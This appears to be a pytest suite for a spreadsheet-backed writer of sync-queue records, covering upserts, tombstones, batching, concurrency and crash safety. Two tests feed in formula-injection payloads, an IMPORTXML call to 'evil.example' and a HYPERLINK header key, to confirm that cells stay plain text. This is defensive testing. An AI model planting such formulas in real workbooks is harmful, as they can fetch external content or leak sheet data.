"""LocalWorkbookWriter: sheet semantics, configuration switches, concurrency and crash safety."""

from __future__ import annotations

import os
import random
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from items import Feeder, item

from syncqueue_tasks.celery.batch import writer_context
from syncqueue_tasks.settings import get_settings
from syncqueue_tasks.writers.base import OutcomeKind, Writer
from syncqueue_tasks.writers.workbook import LocalWorkbookWriter, create_writer

pytestmark = pytest.mark.unit

REPO = Path(__file__).resolve().parents[1]


def table(path: Path, model: str = "Request") -> list[dict[str, Any]]:
    """The sheet's data rows as dicts keyed by header, as a fresh openpyxl load sees them."""
    ws = openpyxl.load_workbook(path)[model]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, r, strict=False)) for r in rows[1:]]


def by_id(path: Path, model: str = "Request") -> dict[str, dict[str, Any]]:
    return {str(r["id"]): r for r in table(path, model)}


def kinds(outcomes: Any) -> dict[str, OutcomeKind]:
    return {k: v.kind for k, v in outcomes.items()}


@pytest.fixture(autouse=True)
def _fresh_settings() -> Iterator[None]:
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


@pytest.fixture
def path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    p = tmp_path / "nested" / "dir" / "book.xlsx"
    monkeypatch.setenv("SYNCQUEUE_WORKBOOK_PATH", str(p))
    for name in ("ID_COLUMN", "UNKNOWN_FIELDS", "UPDATE_MISSING", "DELETE_MODE"):
        monkeypatch.delenv(f"SYNCQUEUE_{name}", raising=False)
    return p


def writer(monkeypatch: pytest.MonkeyPatch, **env: str) -> LocalWorkbookWriter:
    for name, value in env.items():
        monkeypatch.setenv(f"SYNCQUEUE_{name.upper()}", value)
    get_settings.cache_clear()
    return Feeder(create_writer(writer_context()))  # type: ignore[return-value]


def test_factory_reads_settings(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch, id_column="key", unknown_fields="fail", delete_mode="remove").writer
    assert isinstance(w, Writer)
    assert (w.path, w.id_column, w.unknown_fields, w.delete_mode) == (
        path,
        "key",
        "fail",
        "remove",
    )
    assert w.update_missing == "create"


def test_create_update_delete_tombstone(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    a, b = item("CREATE", "r1", name="Ann", amount=3), item("CREATE", "r2", name="Bob")
    out = w.write([a, b])
    assert kinds(out) == {a.id: OutcomeKind.DONE, b.id: OutcomeKind.DONE}
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Request"]
    assert [c.value for c in wb["Request"][1]] == ["id", "name", "amount"]
    assert table(path) == [
        {"id": "r1", "name": "Ann", "amount": 3},
        {"id": "r2", "name": "Bob", "amount": None},
    ]

    u = item("UPDATE", "r2", amount=7)
    assert kinds(w.write([u])) == {u.id: OutcomeKind.DONE}
    assert by_id(path)["r2"] == {"id": "r2", "name": "Bob", "amount": 7}

    d = item("DELETE", "r1")
    assert kinds(w.write([d])) == {d.id: OutcomeKind.DONE}
    rows = table(path)
    assert [r["id"] for r in rows] == ["r1", "r2"]  # nothing moved
    assert rows[0] == {"id": "r1", "name": None, "amount": None, "_deleted": True}
    assert rows[1]["name"] == "Bob" and not rows[1]["_deleted"]

    # Deleting what is not there is done (idempotent); re-creating revives the row in place.
    gone, again = item("DELETE", "nope"), item("CREATE", "r1", name="Ann2")
    assert kinds(w.write([gone, again])) == {gone.id: OutcomeKind.DONE, again.id: OutcomeKind.DONE}
    rows = table(path)
    assert rows[0] == {"id": "r1", "name": "Ann2", "amount": None, "_deleted": None}
    assert len(rows) == 2


def test_models_get_their_own_sheets(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    w.write([item("CREATE", "1", model="Operator", x=1), item("CREATE", "1", model="Revenue", y=2)])
    assert openpyxl.load_workbook(path).sheetnames == ["Operator", "Revenue"]
    assert table(path, "Operator") == [{"id": "1", "x": 1}]
    assert table(path, "Revenue") == [{"id": "1", "y": 2}]


def test_remove_mode_deletes_rows(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch, delete_mode="remove")
    w.write([item("CREATE", f"r{i}", n=i) for i in range(6)])
    out = w.write([item("DELETE", "r1"), item("DELETE", "r2"), item("DELETE", "r4")])
    assert set(kinds(out).values()) == {OutcomeKind.DONE}
    assert table(path) == [{"id": "r0", "n": 0}, {"id": "r3", "n": 3}, {"id": "r5", "n": 5}]


def test_repeated_create_is_an_upsert(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    w.write([item("CREATE", "r1", name="Ann", amount=1)])
    w.write([item("CREATE", "r1", name="Ann")])  # a retried create
    w.write([item("CREATE", "r1", amount=2)])
    assert table(path) == [{"id": "r1", "name": "Ann", "amount": 2}]


def test_batch_is_coalesced(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    batch = [
        item("CREATE", "r1", name="Ann", amount=1),
        item("CREATE", "r2", name="Bob"),
        item("UPDATE", "r1", amount=2),
        item("DELETE", "r2"),
        item("UPDATE", "r1", name="Anne"),
        item("CREATE", "r3", name="Cy"),
        item("DELETE", "r3"),
        item("CREATE", "r3", amount=9),
    ]
    out = w.write(batch)
    assert set(out) == {i.id for i in batch}
    assert set(kinds(out).values()) == {OutcomeKind.DONE}
    assert table(path) == [
        {"id": "r1", "name": "Anne", "amount": 2, "_deleted": None},
        {"id": "r2", "name": None, "amount": None, "_deleted": True},  # as if written one by one
        {"id": "r3", "name": None, "amount": 9, "_deleted": None},
    ]


@pytest.mark.parametrize("cut", [1, 2, 3])
def test_batch_boundaries_do_not_change_the_sheet(
    path: Path, monkeypatch: pytest.MonkeyPatch, cut: int
) -> None:
    """Finding 3 of issue 10: CREATE, UPDATE, DELETE of one record left no row when written
    in one batch and a tombstone in three; DELETE then CREATE in one batch kept the deleted
    record's other cells."""
    w = writer(monkeypatch)
    w.write([item("CREATE", "keep", name="k")])
    changes = [
        item("CREATE", "1", name="bob", ssn="123-45-6789"),
        item("UPDATE", "1", name="bobby"),
        item("DELETE", "1"),
        item("CREATE", "2", name="eve", ssn="987"),
        item("DELETE", "2"),
        item("CREATE", "2", name="eve2"),
    ]
    for start in range(0, len(changes), cut):
        w.write(changes[start : start + cut])
    rows = {k: {f: v for f, v in row.items() if v is not None} for k, row in by_id(path).items()}
    assert rows["1"] == {"id": "1", "_deleted": True}
    assert rows["2"] == {"id": "2", "name": "eve2"}


def test_rows_reordered_by_a_person(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    w.write([item("CREATE", f"r{i}", n=i, note="") for i in range(5)])
    # A person sorts the rows descending and inserts a blank row plus a foreign one at the top.
    wb = openpyxl.load_workbook(path)
    ws = wb["Request"]
    data = sorted(ws.iter_rows(min_row=2, values_only=True), key=lambda r: -r[1])
    ws.delete_rows(2, ws.max_row)
    ws.append(["manual", 99, "typed by hand"])
    ws.append([None, None, None])
    for r in data:
        ws.append(list(r))
    wb.save(path)

    u1, u3 = item("UPDATE", "r1", row=3, note="one"), item("UPDATE", "r3", row=5, note="three")
    assert set(kinds(w.write([u1, u3])).values()) == {OutcomeKind.DONE}
    rows = by_id(path)
    assert rows["r1"]["note"] == "one" and rows["r1"]["n"] == 1
    assert rows["r3"]["note"] == "three" and rows["r3"]["n"] == 3
    assert rows["manual"]["note"] == "typed by hand"
    assert [r["note"] for r in table(path) if r["id"] in ("r0", "r2", "r4")] == [None] * 3


def test_stale_row_hint_is_ignored(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    w.write([item("CREATE", "a", v=1), item("CREATE", "b", v=2), item("CREATE", "c", v=3)])
    # Row 2 holds "a", not "c"; row 99 does not exist: both hints must be ignored.
    w.write([item("UPDATE", "c", row=2, v=30), item("UPDATE", "b", row=99, v=20)])
    assert table(path) == [{"id": "a", "v": 1}, {"id": "b", "v": 20}, {"id": "c", "v": 30}]
    # A correct hint is used; a create with a hint still upserts.
    w.write([item("UPDATE", "b", row=3, v=21), item("CREATE", "a", row=4, v=11)])
    assert table(path) == [{"id": "a", "v": 11}, {"id": "b", "v": 21}, {"id": "c", "v": 30}]


def test_unknown_field_add_column(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    w.write([item("CREATE", "r1", a=1)])
    w.write([item("UPDATE", "r1", b=2), item("CREATE", "r2", c=3)])
    ws = openpyxl.load_workbook(path)["Request"]
    assert [c.value for c in ws[1]] == ["id", "a", "b", "c"]
    assert table(path) == [
        {"id": "r1", "a": 1, "b": 2, "c": None},
        {"id": "r2", "a": None, "b": None, "c": 3},
    ]


def test_unknown_field_fail(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = writer(monkeypatch)
    first.write([item("CREATE", "r1", a=1), item("CREATE", "r2", a=2)])
    w = writer(monkeypatch, unknown_fields="fail")
    w.states = first.states
    bad1, bad2 = item("UPDATE", "r1", a=10), item("UPDATE", "r1", surprise=1)
    good, new = item("UPDATE", "r2", a=20), item("CREATE", "r3", other=5)
    out = w.write([bad1, good, bad2, new])
    assert kinds(out) == {
        bad1.id: OutcomeKind.FAIL,
        bad2.id: OutcomeKind.FAIL,
        good.id: OutcomeKind.DONE,
        new.id: OutcomeKind.FAIL,
    }
    assert "surprise" in out[bad1.id].error and out[bad1.id] == out[bad2.id]
    assert "other" in out[new.id].error
    assert table(path) == [{"id": "r1", "a": 1}, {"id": "r2", "a": 20}]  # r1 untouched, no r3


def test_update_missing_create(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    u = item("UPDATE", "ghost", a=1)
    assert kinds(w.write([u])) == {u.id: OutcomeKind.DONE}
    assert table(path) == [{"id": "ghost", "a": 1}]


def test_update_missing_fail(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = writer(monkeypatch)
    first.write([item("CREATE", "r1", a=1), item("CREATE", "r2", a=2)])
    w = writer(monkeypatch, update_missing="fail")
    w.states = first.states
    ghost1, ghost2, ok = (
        item("UPDATE", "ghost", a=1),
        item("UPDATE", "ghost", a=2),
        item("UPDATE", "r1", a=5),
    )
    w.write([item("DELETE", "r2")])
    dead = item("UPDATE", "r2", a=3)  # tombstoned counts as missing
    out = w.write([ghost1, ok, ghost2, dead])
    assert kinds(out) == {
        ghost1.id: OutcomeKind.FAIL,
        ghost2.id: OutcomeKind.FAIL,
        ok.id: OutcomeKind.DONE,
        dead.id: OutcomeKind.FAIL,
    }
    assert "no row to update" in out[ghost1.id].error and "ghost" in out[ghost1.id].error
    assert [(r["id"], r["a"]) for r in table(path)] == [("r1", 5), ("r2", None)]


def test_values_are_plain_text_never_formulas(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    formula = '=IMPORTXML("https://evil.example", "//a")'
    w.write([item("CREATE", "r1", f=formula, nested={"k": [1, "é"]}, lst=[1, 2], flag=True)])
    w.write([item("UPDATE", "r1", n=1.5)])  # a second load/save round trip keeps the text
    cell = openpyxl.load_workbook(path)["Request"]["B2"]
    assert cell.value == formula and cell.data_type == "s"
    assert openpyxl.load_workbook(path, data_only=True)["Request"]["B2"].value == formula
    row = by_id(path)["r1"]
    assert row["nested"] == '{"k": [1, "é"]}' and row["lst"] == "[1, 2]"
    assert row["flag"] is True and row["n"] == 1.5


def test_unstorable_value_fails_only_its_record(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    w = writer(monkeypatch)
    bad, good = item("CREATE", "r1", a="bell\x07"), item("CREATE", "r2", a="fine")
    out = w.write([bad, good])
    assert kinds(out) == {bad.id: OutcomeKind.FAIL, good.id: OutcomeKind.DONE}
    assert "'a'" in out[bad.id].error
    assert table(path) == [{"id": "r2", "a": "fine"}]


def test_custom_id_column_and_numeric_ids(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch, id_column="key")
    w.write([item("CREATE", "42", a=1)])
    wb = openpyxl.load_workbook(path)
    wb["Request"]["A2"] = 42  # a person retyped the id as a number
    wb.save(path)
    w.write([item("UPDATE", "42", a=2)])
    ws = openpyxl.load_workbook(path)["Request"]
    assert [tuple(r) for r in ws.iter_rows(values_only=True)] == [("key", "a"), (42, 2)]


def test_failed_save_leaves_file_untouched(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)
    w.write([item("CREATE", "r1", a=1)])
    path.chmod(0o640)
    w.write([item("UPDATE", "r1", a=2)])
    assert path.stat().st_mode & 0o777 == 0o640  # the atomic save keeps permissions
    before = path.read_bytes()
    monkeypatch.setattr(openpyxl.Workbook, "save", _boom)
    with pytest.raises(OSError, match="disk full"):
        w.write([item("UPDATE", "r1", a=3)])
    assert path.read_bytes() == before
    assert {p.name for p in path.parent.iterdir()} == {path.name, f"{path.name}.lock"}


def _boom(self: Any, filename: Any) -> None:
    filename.write(b"partial garbage")
    raise OSError("disk full")


def test_concurrent_writers_lose_nothing(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    w = writer(monkeypatch)

    def run(prefix: str) -> None:
        for n in range(8):
            w.write([item("CREATE", f"{prefix}{n}-{j}", v=n) for j in range(5)])

    threads = [threading.Thread(target=run, args=(p,)) for p in "ab"]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(by_id(path)) == 2 * 8 * 5


_CHILD = """
import sys
from datetime import UTC, datetime
import uuid
from syncqueue_tasks.core.items import QueueItem, SyncAction
from syncqueue_tasks.writers.workbook import LocalWorkbookWriter

from syncqueue_tasks.core.records import RecordKey, RecordState, record_write

w = LocalWorkbookWriter(sys.argv[1])
size = int(sys.argv[3])
print("ready", flush=True)
for batch in range(int(sys.argv[2]), 10**6):
    w.write_records([
        record_write(RecordKey("Request", f"{batch:05d}-{j:04d}"), RecordState(), [
            QueueItem(f"{batch}-{j}", SyncAction.CREATE, "Request", f"{batch:05d}-{j:04d}", None,
                      {"batch": batch, "j": j, "text": "x" * 40, "nested": {"j": j}},
                      0, 3, datetime.now(UTC), uuid.uuid4())])
        for j in range(size)
    ])
"""


def _complete_batches(path: Path, size: int) -> int:
    """Check the workbook holds exactly batches 0..K-1, each whole; return K."""
    if not path.exists():
        return 0
    rows = table(path)
    batches = sorted({r["batch"] for r in rows})
    assert batches == list(range(len(batches))), "batches are not a prefix"
    expected = [
        {
            "id": f"{b:05d}-{j:04d}",
            "batch": b,
            "j": j,
            "text": "x" * 40,
            "nested": f'{{"j": {j}}}',
        }
        for b in batches
        for j in range(size)
    ]
    assert rows == expected, "a batch is incomplete or rows are damaged"
    return len(batches)


def test_sigkill_mid_write_never_corrupts(tmp_path: Path) -> None:
    path, size, rng = tmp_path / "crash" / "book.xlsx", 150, random.Random()
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    done, kills = 0, 0
    deadline = time.monotonic() + 12
    while kills < 6 and time.monotonic() < deadline:
        proc = subprocess.Popen(
            [sys.executable, "-c", _CHILD, str(path), str(done), str(size)],
            env=env,
            stdout=subprocess.PIPE,
        )
        try:
            assert proc.stdout is not None and proc.stdout.readline() == b"ready\n"
            time.sleep(rng.uniform(0.05, 1.0))
            os.kill(proc.pid, signal.SIGKILL)
        finally:
            if proc.poll() is None:
                os.kill(proc.pid, signal.SIGKILL)
            proc.wait(timeout=10)
            if proc.stdout is not None:
                proc.stdout.close()
        kills += 1
        now = _complete_batches(path, size)  # the workbook loads, batches form a prefix
        assert now >= done
        done = now
    assert kills >= 3 and done >= 1
    # The next write sweeps temp files a killed writer may have left.
    Feeder(LocalWorkbookWriter(path)).write([item("CREATE", "last", batch=done, j=0)])
    assert {p.name for p in path.parent.iterdir()} == {"book.xlsx", "book.xlsx.lock"}


def test_header_cells_are_text_never_formulas(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 5 of issue 11: a payload key like =HYPERLINK(...) became a formula in row 1."""
    key = '=HYPERLINK("http://x","y")'
    writer(monkeypatch).write([item("CREATE", "r1", **{key: "v"})])
    cell = openpyxl.load_workbook(path)["Request"]["B1"]
    assert cell.value == key and cell.data_type == "s"


def test_a_tombstone_blanks_the_records_fields_and_nothing_of_a_persons(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    w = writer(monkeypatch)
    w.write([item("CREATE", "r1", name="Ann", phone="1"), item("CREATE", "r2", name="Bob")])
    wb = openpyxl.load_workbook(path)
    ws = wb["Request"]
    ws.cell(row=1, column=4).value = "my notes"  # a person's own column
    ws.cell(row=2, column=4).value = "call back"
    ws.append(["r3", "Cy", None, "theirs"])  # a row the queue never wrote
    wb.save(path)
    w.write([item("DELETE", "r1"), item("DELETE", "r3")])
    rows = by_id(path)
    assert rows["r1"] == {
        "id": "r1",
        "name": None,
        "phone": None,
        "_deleted": True,
        "my notes": "call back",
    }
    assert rows["r3"]["name"] == "Cy" and rows["r3"]["_deleted"] is True  # only marked
